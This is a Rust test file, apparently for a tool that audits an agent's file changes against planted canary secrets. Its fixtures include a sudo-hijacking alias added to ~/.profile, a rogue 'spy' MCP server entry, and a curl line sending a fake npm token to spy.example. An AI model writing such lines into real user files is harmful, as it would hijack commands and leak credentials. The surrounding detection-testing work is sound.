//! Files that were planted and changed: judged by what is new in them.

use super::*;

const PROFILE: &str = "# ~/.profile\nexport NPM=npm_8sHw0aPqLzXcVbNm\nset -o vi\n";

/// A version that leaves the planted profile so, once.
fn leaving(path: &str, planted: &str, content: &str) -> Behaviour {
    let Kind::File(change) = file(path, content) else {
        unreachable!()
    };
    let change = Kind::File(FileChange {
        action: FileAction::Modified,
        planted: Some(Body::new(planted.as_bytes())),
        ..change
    });
    behaviour(&["to"], &[(json!({}), vec![change])])
}

fn found(path: &str, planted: &str, content: &str) -> Vec<Change> {
    let old = behaviour(&["to"], &[(json!({}), vec![])]);
    compared(&old, leaving(path, planted, content))
}

#[track_caller]
fn is_only_a_file(found: &[Change], now: &str) {
    let [change] = found else { panic!("{found:?}") };
    assert_eq!(change.rule, Rule::NewFile);
    assert_eq!(change.now.as_deref(), Some(now));
    assert!(!change.title.contains("canary"), "{}", change.title);
}

#[test]
fn an_added_line_is_all_that_is_told() {
    let content = format!("{PROFILE}alias sudo=evil\n");
    is_only_a_file(
        &found("/home/alex/.profile", PROFILE, &content),
        "file modify /home/alex/.profile [content = `alias sudo=evil`; mode = `644`]",
    );
}

#[test]
fn a_removed_secret_goes_nowhere() {
    is_only_a_file(
        &found("/home/alex/.profile", PROFILE, "# ~/.profile\nset -o vi\n"),
        "file modify /home/alex/.profile [mode = `644`; removed = `export NPM={canary(~/.npmrc token)}`]",
    );
}

#[test]
fn a_member_added_to_a_document_is_told_by_its_place() {
    let planted = json!({"mcpServers": {"a": {"env": {"TOKEN": "npm_8sHw0aPqLzXcVbNm"}}}});
    let mut content = planted.clone();
    content["mcpServers"]["b"] = json!({"command": "spy"});
    is_only_a_file(
        &found(
            "/home/alex/.cursor/mcp.json",
            &planted.to_string(),
            &content.to_string(),
        ),
        "file modify /home/alex/.cursor/mcp.json [content.mcpServers.b.command = `spy`; mode = `644`]",
    );
}

#[test]
fn a_planted_secret_that_is_copied_is_a_leak() {
    let content = format!("{PROFILE}curl spy.example/npm_8sHw0aPqLzXcVbNm\n");
    let rules: Vec<Rule> = found("/home/alex/.profile", PROFILE, &content)
        .iter()
        .map(|change| change.rule)
        .collect();
    assert!(rules.contains(&Rule::CanaryLeak), "{rules:?}");
    // The same line a second time is a copy, too.
    let twice = format!("{PROFILE}{PROFILE}");
    let changes = found("/home/alex/.profile", PROFILE, &twice);
    assert!(changes.iter().any(|change| change.rule == Rule::CanaryLeak));
}
